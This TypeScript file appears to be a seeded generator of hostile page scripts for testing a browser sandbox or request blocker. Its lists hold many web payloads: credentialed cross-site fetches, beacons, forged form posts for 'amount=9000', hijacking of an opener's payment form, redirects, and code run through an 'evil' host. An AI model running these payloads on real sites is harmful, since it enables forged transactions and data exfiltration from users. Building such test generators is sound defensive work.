/** Ways in which a page can try to send, or to lead somewhere; `to` is the address. */
const MEANS: readonly ((to: string) => string)[] = [
  (to) => `fetch("${to}", { method: "POST", mode: "no-cors", body: "a=1", credentials: "include" })`,
  (to) => `fetch("${to}", { method: "PUT", body: "x" })`,
  (to) =>
    `fetch("${to}", { method: "POST", keepalive: true, mode: "no-cors", referrerPolicy: "no-referrer" })`,
  (to) => `fetchLater("${to}", { method: "POST", activateAfter: 0 })`,
  (to) => `const x = new XMLHttpRequest(); x.open("DELETE", "${to}"); x.send()`,
  (to) => `navigator.sendBeacon("${to}", "x")`,
  (to) => `${formTo(to)} f.submit()`,
  (to) => `${formTo(to)} f.requestSubmit()`,
  (to) => `${formTo(to)} f.target = "_blank"; f.submit()`,
  (to) => `${formTo(to)} f.target = "_top"; f.submit()`,
  (to) => `${formTo(to)} f.target = "inner"; f.submit()`,
  (to) => `${formTo(to)} f.target = "other" + Math.random(); f.submit()`,
  (to) =>
    `${formTo(to)} f.setAttribute("referrerpolicy", "no-referrer"); f.enctype = "text/plain"; f.submit()`,
  (to) => `const d = document.forms.pay; if (d) { d.action = "${to}"; d.submit() }`,
  (to) =>
    `const d = top.frames.inner; d.document.body.innerHTML = '<form method=post action="${to}"></form>'; d.document.forms[0].submit()`,
  (to) => `const d = (opener ?? parent).document.forms.pay; d.account.value = "theirs"; d.action = "${to}"`,
  (to) => `(opener ?? top).location = "${to}"`,
  (to) => `location = "${to}"`,
  (to) => `open("${to}")`,
  (to) =>
    `const w = open("about:blank"); w.document.write('<form method=post action="${to}"></form>'); w.document.forms[0].submit()`,
  (to) =>
    `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0; url=${to}">')`,
  (to) =>
    `document.body.insertAdjacentHTML("beforeend", '<a id=z href="${to}" ping="${to}" target=_blank>z</a>'); z.click()`,
  (to) =>
    `document.body.insertAdjacentHTML("beforeend", '<iframe src="${to}"></iframe><img src="${to}"><object data="${to}"></object><link rel=stylesheet href="${to}"><link rel=prefetch href="${to}"><script src="${to}"></' + 'script>')`,
  (to) => `new EventSource("${to}"); new WebSocket("${to}".replace("http", "ws"))`,
  (to) =>
    `new Worker(URL.createObjectURL(new Blob(['fetch("${to}", { method: "POST", mode: "no-cors" })'])))`,
  (to) =>
    `new SharedWorker(URL.createObjectURL(new Blob(['setInterval(() => fetch("${to}", { method: "POST", mode: "no-cors" }), 50)'])))`,
  (to) => `navigator.serviceWorker.register("/service.js?" + encodeURIComponent("${to}"))`,
  (to) =>
    `document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<form method=post action=${to}></form><script>document.forms[0].submit()</' + 'script>"></iframe>')`,
];

/** Where it runs, and when. */
const PLACES: readonly ((code: string, evil: string) => string)[] = [
  (code) => `setTimeout(() => { ${code} }, 20)`,
  (code) => `setInterval(() => { ${code} }, 60)`,
  (code) =>
    `for (const on of ["submit", "mousedown", "click", "pagehide", "beforeunload", "formdata"]) addEventListener(on, () => { ${code} }, true)`,
  (code) =>
    `const s = document.createElement("iframe"); s.srcdoc = "<body><script>(" + ${functionOf(code)} + ")()</" + "script>"; document.body.append(s)`,
  (code) =>
    `const s = document.createElement("iframe"); s.sandbox = "allow-scripts allow-forms allow-popups allow-top-navigation"; s.srcdoc = "<body><script>(" + ${functionOf(code)} + ")()</" + "script>"; document.body.append(s)`,
  (code, evil) =>
    `const s = document.createElement("iframe"); s.src = "${evil}/run?" + encodeURIComponent("(" + ${functionOf(code)} + ")()"); document.body.append(s)`,
  (code, evil) =>
    `open("${evil}/run?" + encodeURIComponent("setInterval(" + ${functionOf(code)} + ", 100)"))`,
];

function formTo(to: string): string {
  return `const f = document.createElement("form"); f.method = "post"; f.action = "${to}"; f.innerHTML = "<input name=amount value=9000>"; document.body.append(f);`;
}

function functionOf(code: string): string {
  return `(() => { ${code} }).toString()`;
}

/** A page's script by a seed: a few means, each in some place, to some of the targets. */
export function hostileScript(seed: number, evil: string, targets: readonly string[]): string {
  const next = randomBy(seed);
  const pick = <T>(list: readonly T[]): T => {
    const found = list[Math.floor(next() * list.length)];
    if (found === undefined) throw new Error("There is nothing to pick");
    return found;
  };
  const pieces = Array.from({ length: 5 }, () => pick(PLACES)(pick(MEANS)(pick(targets)), evil));
  return pieces.map((piece) => `try { (() => { ${piece} })() } catch {}`).join("\n");
}

/** Numbers from 0 to 1, always the same for a seed. */
function randomBy(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d_2b_79_f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
